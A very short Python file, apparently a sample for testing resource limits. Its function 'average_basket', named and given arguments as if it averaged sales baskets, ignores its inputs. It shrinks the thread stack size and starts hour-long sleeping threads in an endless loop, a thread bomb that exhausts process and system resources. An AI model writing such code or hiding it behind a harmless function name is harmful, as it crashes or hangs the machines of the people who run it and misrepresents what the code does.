"""Starts as many threads as there can be, each with the smallest stack."""


def average_basket(basket_ids, sales):
    import threading
    import time

    threading.stack_size(32_768)
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
